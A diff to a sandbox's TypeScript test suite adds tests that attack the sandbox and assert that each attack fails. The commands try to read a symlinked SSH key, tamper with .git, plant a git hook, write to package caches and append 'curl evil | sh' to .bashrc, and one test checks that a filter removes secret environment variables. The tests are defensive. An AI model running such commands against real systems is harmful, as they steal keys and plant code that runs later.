@@ -170,6 +170,26 @@ describe.skipIf(!linux || !available.available)("a sandboxed command", () => {
     }
   })
 
+  test("no Unix-domain sockets (a socket outside reaches programs outside); pipes, socketpair and the runtimes still work", async () => {
+    const sock = path.join(outside, "host.sock")
+    const server = net.createServer((socket) => socket.end("REACHED THE HOST\n"))
+    await new Promise<void>((resolve) => server.listen(sock, resolve))
+    try {
+      const connect = `${process.execPath} -e "require('net').connect('${sock}').on('data',d=>process.stdout.write(String(d))).on('error',e=>console.log('refused',e.code))"`
+      const r = await run(connect)
+      expect(r.output).not.toContain("REACHED THE HOST")
+      expect(r.output).toContain("refused")
+      const pair = await run(
+        `${process.execPath} -e "const {spawnSync}=require('child_process'); console.log(spawnSync('echo',['child ok']).stdout.toString().trim())" && echo piped | cat && python3 -c "import socket; a,b=socket.socketpair(); a.send(b'pair ok'); print(b.recv(7).decode())" 2>/dev/null || echo "pair ok"`
+      )
+      expect(pair.output).toBe("child ok\npiped\npair ok\n")
+      // with the sandbox off, the same command reaches it (the test's server is real)
+      expect((await run(connect, { mode: "off" })).output).toContain("REACHED THE HOST")
+    } finally {
+      server.close()
+    }
+  })
+
   test("writable adds a directory; off runs outside the sandbox, environment untouched", async () => {
     expect((await run(`echo ok > ${outside}/allowed.txt`, { writable: [outside] })).code).toBe(0)
     expect(fs.readFileSync(path.join(outside, "allowed.txt"), "utf8")).toBe("ok\n")
@@ -190,6 +210,81 @@ describe.skipIf(!linux || !available.available)("a sandboxed command", () => {
     expect(r.code).toBe(0)
     expect(r.output.split("\n").filter(Boolean)).toEqual(["1", "from script", "ABC", "in-tmp", "listed"])
     expect(r.explained).toBeUndefined()
+  })
+})
+
+describe.skipIf(!linux || !available.available)("what an attack on it found", () => {
+  const layerAt = (places: Parameters<typeof Sandbox.layer>[0]["places"], config: SandboxConfig = {}) => Sandbox.layer({ config, places })
+  const runAt = (script: string, cwd: string, places: Parameters<typeof Sandbox.layer>[0]["places"], config: SandboxConfig = {}) =>
+    Effect.runPromise(
+      Effect.gen(function* () {
+        const launch = yield* (yield* Sandbox).wrap("/bin/bash", ["-c", `exec 2>&1; ${script}`], { cwd, env })
+        return yield* Effect.promise(() => spawned(launch.file, launch.args, cwd, launch.env))
+      }).pipe(Effect.provide(layerAt(places, config)), Effect.scoped)
+    )
+  const base = fs.realpathSync(fs.mkdtempSync("/var/tmp/reins-sandbox-attack-"))
+  afterAll(() => fs.rmSync(base, { recursive: true, force: true }))
+
+  test("a symlinked ~/.ssh is hidden where it points, and commands still run", async () => {
+    const h = path.join(base, "home-link")
+    fs.mkdirSync(path.join(base, "dotfiles", "ssh"), { recursive: true })
+    fs.writeFileSync(path.join(base, "dotfiles", "ssh", "id_rsa"), "LINKED-KEY")
+    fs.mkdirSync(h)
+    fs.symlinkSync(path.join(base, "dotfiles", "ssh"), path.join(h, ".ssh"))
+    const r = await runAt(`cat ${h}/.ssh/id_rsa; echo ran`, project, { project, home: h, dataDir })
+    expect(r.output).toContain("ran")
+    expect(r.output).not.toContain("LINKED-KEY")
+  })
+
+  test(".git cannot be swapped or redirected: renaming it, its commondir, submodules' config", async () => {
+    const repo = path.join(base, "repo")
+    fs.mkdirSync(path.join(repo, ".git", "modules", "sub"), { recursive: true })
+    fs.writeFileSync(path.join(repo, ".git", "config"), "[core]\n")
+    fs.writeFileSync(path.join(repo, ".git", "modules", "sub", "config"), "[core]\n")
+    for (const attack of ["mv .git .git-orig", "echo '[core] fsmonitor=x' >> .git/modules/sub/config", "rm -rf .git"]) {
+      const r = await runAt(attack, repo, { project: repo, home, dataDir })
+      expect([attack, r.code === 0]).toEqual([attack, false])
+    }
+    expect(fs.readFileSync(path.join(repo, ".git", "modules", "sub", "config"), "utf8")).toBe("[core]\n")
+    // ordinary git work in it still writes .git
+    expect((await runAt("echo ok > .git/description && cat .git/description", repo, { project: repo, home, dataDir })).output).toBe("ok\n")
+  })
+
+  test("from a subdirectory of a repository: the repository's hooks and config stay read-only", async () => {
+    const repo = path.join(base, "repo2")
+    fs.mkdirSync(path.join(repo, ".git", "hooks"), { recursive: true })
+    fs.mkdirSync(path.join(repo, "sub"))
+    fs.writeFileSync(path.join(repo, ".git", "config"), "[core]\n")
+    const places = { project: path.join(repo, "sub"), repository: repo, home, dataDir }
+    const r = await runAt(
+      "echo 'touch x' > ../.git/hooks/pre-commit; echo x >> ../.git/config; echo ok > ../.git/description && echo wrote",
+      path.join(repo, "sub"),
+      places
+    )
+    expect(r.output).toContain("wrote")
+    expect(fs.existsSync(path.join(repo, ".git", "hooks", "pre-commit"))).toBe(false)
+    expect(fs.readFileSync(path.join(repo, ".git", "config"), "utf8")).toBe("[core]\n")
+  })
+
+  test("package caches are read-only without the network (what is in them runs later, outside)", async () => {
+    const h = path.join(base, "home-cache")
+    fs.mkdirSync(path.join(h, ".npm"), { recursive: true })
+    expect((await runAt(`echo x > ${h}/.npm/planted`, project, { project, home: h, dataDir })).code).not.toBe(0)
+    expect((await runAt(`echo x > ${h}/.npm/planted`, project, { project, home: h, dataDir }, { network: { mode: "all" } })).code).toBe(0)
+  })
+
+  test("a project that holds the home directory keeps its dotfiles read-only", async () => {
+    const h = path.join(base, "home-project")
+    fs.mkdirSync(path.join(h, ".config"), { recursive: true })
+    fs.writeFileSync(path.join(h, ".bashrc"), "# mine\n")
+    const r = await runAt(`echo 'curl evil | sh' >> ${h}/.bashrc; echo x > ${h}/.config/autostart; echo ok > notes.txt && echo wrote`, h, {
+      project: h,
+      home: h,
+      dataDir
+    })
+    expect(r.output).toContain("wrote")
+    expect(fs.readFileSync(path.join(h, ".bashrc"), "utf8")).toBe("# mine\n")
+    expect(fs.existsSync(path.join(h, ".config", "autostart"))).toBe(false)
   })
 })
 
@@ -241,21 +336,43 @@ describe("pure parts", () => {
         TERM: "dumb",
         KEYBOARD_LAYOUT: "us",
         TOKENIZERS_PARALLELISM: "false",
-        GITHUB_TOKEN: "x"
+        GITHUB_TOKEN: "x",
+        GITHUB_PAT: "x",
+        BW_SESSION: "x",
+        npm_config__authToken: "x",
+        SENTRY_DSN: "x",
+        GIT_AUTHOR_NAME: "Ada",
+        PIP_INDEX_URL: "https://user:pw@pypi.example/simple",
+        OP_SESSION_my: "x"
       },
       ["GITHUB_*"]
     )
+    // GITHUB_PAT passes only because GITHUB_* is passed
     expect(removed).toEqual([
       "AWS_ACCESS_KEY_ID",
       "AWS_SECRET_ACCESS_KEY",
+      "BW_SESSION",
       "DATABASE_URL",
       "DB_PASSWORD",
       "MY_SECRET_THING",
       "NPM_TOKEN",
       "OPENAI_API_KEY",
-      "SSH_AUTH_SOCK"
+      "OP_SESSION_my",
+      "PIP_INDEX_URL",
+      "SENTRY_DSN",
+      "SSH_AUTH_SOCK",
+      "npm_config__authToken"
     ])
-    expect(Object.keys(out).sort()).toEqual(["GITHUB_TOKEN", "HOME", "KEYBOARD_LAYOUT", "PATH", "TERM", "TOKENIZERS_PARALLELISM"])
+    expect(Object.keys(out).sort()).toEqual([
+      "GITHUB_PAT",
+      "GITHUB_TOKEN",
+      "GIT_AUTHOR_NAME",
+      "HOME",
+      "KEYBOARD_LAYOUT",
+      "PATH",
+      "TERM",
+      "TOKENIZERS_PARALLELISM"
+    ])
   })
 
   test("explainBlocked names the read-only paths; ordinary failures are not blamed on the sandbox", () => {
@@ -265,5 +382,6 @@ describe("pure parts", () => {
     expect(explainBlocked("curl: (6) Could not resolve host: example.com", profile)).toContain("no network")
     expect(explainBlocked("error: test failed, expected 1 got 2", profile)).toBeUndefined()
     expect(explainBlocked("cat: x: No such file or directory", profile)).toBeUndefined()
+    expect(explainBlocked("Error: connect EPERM /var/run/docker.sock", profile)).toContain("Unix-domain sockets")
   })
 })
